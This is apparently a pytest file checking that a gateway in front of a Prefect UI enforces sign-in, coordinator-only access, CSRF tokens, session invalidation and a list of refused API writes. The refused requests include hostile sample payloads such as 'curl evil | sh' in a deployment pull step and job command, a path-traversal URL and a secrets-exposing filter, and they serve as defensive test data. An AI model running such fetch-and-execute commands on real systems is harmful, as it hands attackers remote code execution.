"""The coordinators' Prefect UI behind the gateway: who gets in, what passes, what is refused.

Each attack is a request a browser (or a script with a stolen cookie) could make; the stand-in
Prefect API records what reaches it, so a refusal is shown to stop the request at the gateway.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from starlette.testclient import TestClient

from safepassage.gateway.app import create_app
from safepassage.gateway.identity import SESSION_COOKIE
from safepassage.gateway.prefect_proxy import PrefectUpstream
from safepassage.models.store.db import Store
from safepassage.models.store.orm import CaseEvent
from safepassage.services.accounts import Credentials, add_user
from tests.gateway.missions import OPERATOR, ORIGIN, form_csrf, sign_in
from tests.gateway.prefect_stand_in import PrefectStandIn

RUN = "0b8a7f4e-1c2d-4e5f-8a9b-0c1d2e3f4a5b"
DEPLOYMENT = "1c9b8a7f-2d3e-4f5a-9b0c-1d2e3f4a5b6c"
CLIENT = "tab-1"


@pytest.fixture
def prefect() -> Iterator[PrefectStandIn]:
    stand_in = PrefectStandIn().start()
    yield stand_in
    stand_in.stop()


@pytest.fixture(scope="module")
def ui_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One copy of the UI's files for the module's gateways (it is written once per folder)."""
    return tmp_path_factory.mktemp("ui")


@pytest.fixture
def gateway(store: Store, prefect: PrefectStandIn, ui_folder: Path) -> Iterator[TestClient]:
    app = create_app(
        store, prefect=PrefectUpstream(prefect.api_url, "admin:pass"), ui_folder=ui_folder
    )
    with TestClient(app, follow_redirects=False) as opened:
        yield opened


@pytest.fixture
def ana(store: Store) -> Credentials:
    return add_user("ana", "coordinator", actor=OPERATOR, store=store)


@pytest.fixture
def coordinator(gateway: TestClient, ana: Credentials) -> dict[str, str]:
    """Sign ana in; return the headers the Prefect UI sends with a write."""
    sign_in(gateway, ana)
    token = gateway.get(f"/prefect/api/csrf-token?client={CLIENT}").json()["token"]
    return {"Origin": ORIGIN, "Prefect-Csrf-Token": token, "Prefect-Csrf-Client": CLIENT}


def _events(store: Store, kind: str) -> list[tuple[str, dict[str, Any]]]:
    with store.transaction() as session:
        rows = session.scalars(select(CaseEvent).where(CaseEvent.kind == kind))
        return [(e.actor, e.detail) for e in rows]


def test_without_a_session_pages_go_to_sign_in_and_the_api_says_401(
    gateway: TestClient, prefect: PrefectStandIn
) -> None:
    assert gateway.get("/prefect/").headers["location"] == "/login"
    assert gateway.get("/prefect/runs/flow-run/x").status_code == 303
    assert gateway.post("/prefect/api/flow_runs/filter", json={}).status_code == 401
    assert prefect.received == []


def test_a_mission_officer_is_refused_the_prefect_ui(
    gateway: TestClient, store: Store, prefect: PrefectStandIn
) -> None:
    officer = add_user("ioana", "mission", "RO", actor=OPERATOR, store=store)
    sign_in(gateway, officer)
    assert gateway.get("/prefect/").status_code == 403
    assert gateway.get("/prefect/ui-settings").status_code == 403
    assert gateway.post("/prefect/api/flow_runs/filter", json={}).status_code == 403
    assert prefect.received == []


def test_the_ui_is_served_for_prefect_under_its_base_and_its_api_is_the_gateways(
    gateway: TestClient, coordinator: dict[str, str]
) -> None:
    settings = gateway.get("/prefect/ui-settings").json()
    assert settings["api_url"] == "/prefect/api"
    assert settings["csrf_enabled"] is True
    assert settings["auth"] is None
    assert (settings["v1_base_url"], settings["v2_base_url"]) == ("/prefect", "/prefect/v2")
    # The base opens the default UI (V2), or V1 once the browser chose it with the UI's switch.
    assert gateway.get("/prefect/").headers["location"] == "/prefect/v2/"
    gateway.cookies.set("prefect_ui_version", "v1")
    assert "/prefect/assets/" in gateway.get("/prefect/").text
    assert gateway.get("/running.svg").headers["content-type"] == "image/svg+xml"
    for page, assets in (
        ("/prefect/dashboard", "/prefect/assets/"),
        ("/prefect/v2/", "/prefect/v2/"),
    ):
        html = gateway.get(page, headers={"Accept": "text/html"})
        assert html.status_code == 200
        assert assets in html.text
        assert "PREFECT_UI_SERVE_BASE_REPLACE_PLACEHOLDER" not in html.text
    # A page of the single-page app is its index, whatever the path.
    deep = gateway.get("/prefect/runs/flow-run/abc", headers={"Accept": "text/html"})
    assert deep.status_code == 200
    assert "/prefect/assets/" in deep.text


def test_reads_pass_without_the_browsers_credentials_and_with_the_servers(
    gateway: TestClient, coordinator: dict[str, str], prefect: PrefectStandIn
) -> None:
    assert gateway.get("/prefect/api/flow_runs/" + RUN).status_code == 200
    listed = gateway.post("/prefect/api/flow_runs/filter", json={"limit": 5}, headers=coordinator)
    assert listed.json() == {"ok": True}
    assert "access-control-allow-origin" not in listed.headers  # Prefect's open CORS stays behind
    assert [(r.method, r.path) for r in prefect.received] == [
        ("GET", f"/api/flow_runs/{RUN}"),
        ("POST", "/api/flow_runs/filter"),
    ]
    for request in prefect.received:
        assert "cookie" not in request.headers
        assert "prefect-csrf-token" not in request.headers
        assert request.headers["authorization"] == "Basic YWRtaW46cGFzcw=="  # admin:pass


def test_a_resume_is_entered_by_the_signed_in_coordinator_whatever_it_says(
    gateway: TestClient, coordinator: dict[str, str], prefect: PrefectStandIn, store: Store
) -> None:
    answer = {"entered_by": "someone-else", "accepted": True, "notes": None}
    resumed = gateway.post(
        f"/prefect/api/flow_runs/{RUN}/resume", json={"run_input": answer}, headers=coordinator
    )
    assert resumed.status_code == 200
    assert prefect.received[-1].body == {"run_input": {**answer, "entered_by": "ana"}}


def test_a_cancel_passes_and_is_recorded_under_the_coordinators_name(
    gateway: TestClient, coordinator: dict[str, str], prefect: PrefectStandIn, store: Store
) -> None:
    cancel = {"state": {"type": "CANCELLING", "name": "Cancelling"}}
    answer = gateway.post(
        f"/prefect/api/flow_runs/{RUN}/set_state", json=cancel, headers=coordinator
    )
    assert answer.status_code == 200
    assert prefect.received[-1].path == f"/api/flow_runs/{RUN}/set_state"
    assert _events(store, "prefect-run-cancel") == [("ana", {"target": RUN})]
    start = gateway.post(
        f"/prefect/api/deployments/{DEPLOYMENT}/create_flow_run",
        json={"parameters": {"reference": "SP-X"}},
        headers=coordinator,
    )
    assert start.status_code == 200
    assert _events(store, "prefect-run-start") == [("ana", {"target": DEPLOYMENT})]


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("PATCH", f"/deployments/{DEPLOYMENT}", {"pull_steps": [{"run": "curl evil | sh"}]}),
        ("POST", "/deployments/", {"name": "x", "flow_id": RUN}),
        ("DELETE", f"/flow_runs/{RUN}", None),
        ("POST", f"/flow_runs/{RUN}/input", {"key": "suspended-ticket-1-response", "value": "{}"}),
        ("GET", f"/flow_runs/{RUN}/input/suspended-reception-1-response", None),
        ("POST", f"/flow_runs/{RUN}/input/filter", {"prefix": ""}),
        ("POST", f"/flow_runs/{RUN}/set_state", {"state": {"type": "COMPLETED"}}),
        ("POST", f"/flow_runs/{RUN}/set_state", {"state": {"type": "CANCELLING"}, "force": True}),
        (
            "POST",
            f"/deployments/{DEPLOYMENT}/create_flow_run",
            {"job_variables": {"command": "sh -c 'curl evil | sh'"}},
        ),
        ("POST", "/block_documents/", {"name": "x"}),
        ("POST", "/block_documents/filter", {"include_secrets": True}),
        ("POST", "/variables/", {"name": "x", "value": "y"}),
        ("POST", "/work_pools/", {"name": "x"}),
        ("POST", "/automations/", {"name": "x"}),
        ("POST", "/flow_runs/", {"flow_id": RUN}),
        ("PUT", f"/flow_runs/../deployments/{DEPLOYMENT}", {}),
    ],
)
def test_writes_a_coordinator_does_not_need_are_refused(
    gateway: TestClient,
    coordinator: dict[str, str],
    prefect: PrefectStandIn,
    method: str,
    path: str,
    body: Any,
) -> None:
    answer = gateway.request(method, f"/prefect/api{path}", json=body, headers=coordinator)
    assert answer.status_code == 403
    assert "Refused by the SafePassage gateway" in answer.json()["detail"]
    assert prefect.received == []


def test_the_form_a_resume_needs_can_be_read_but_not_its_answer(
    gateway: TestClient, coordinator: dict[str, str], prefect: PrefectStandIn
) -> None:
    for part in ("schema", "description"):
        got = gateway.get(f"/prefect/api/flow_runs/{RUN}/input/suspended-reception-1-{part}")
        assert got.status_code == 200
    got = gateway.get(f"/prefect/api/flow_runs/{RUN}/input/suspended-reception-1-response")
    assert got.status_code == 403
    assert len(prefect.received) == 2


def test_a_write_from_another_origin_or_without_the_token_is_refused(
    gateway: TestClient, coordinator: dict[str, str], prefect: PrefectStandIn
) -> None:
    path = f"/prefect/api/flow_runs/{RUN}/resume"
    body = {"run_input": {"accepted": True}}
    attempts = [
        {**coordinator, "Origin": "https://evil.example"},
        {"Origin": ORIGIN},  # no token at all
        {**coordinator, "Prefect-Csrf-Token": "0" * 64},
        {**coordinator, "Prefect-Csrf-Client": "another-tab"},  # a token is per client
    ]
    for headers in attempts:
        assert gateway.post(path, json=body, headers=headers).status_code == 403
    assert prefect.received == []


def test_a_session_cookie_replayed_after_sign_out_is_refused(
    gateway: TestClient, coordinator: dict[str, str], prefect: PrefectStandIn
) -> None:
    cookie = gateway.cookies[SESSION_COOKIE]
    csrf = form_csrf(gateway.get("/").text)
    assert gateway.post("/logout", data={"csrf": csrf}).status_code == 303
    gateway.cookies.set(SESSION_COOKIE, cookie)
    replay = gateway.post(
        f"/prefect/api/flow_runs/{RUN}/resume", json={"run_input": {}}, headers=coordinator
    )
    assert replay.status_code == 401
    assert gateway.get("/prefect/").headers["location"] == "/login"
    assert prefect.received == []


def test_a_prefect_server_that_does_not_answer_is_a_502(
    gateway: TestClient, coordinator: dict[str, str], prefect: PrefectStandIn
) -> None:
    prefect.stop()
    assert gateway.get("/prefect/api/health").status_code == 502
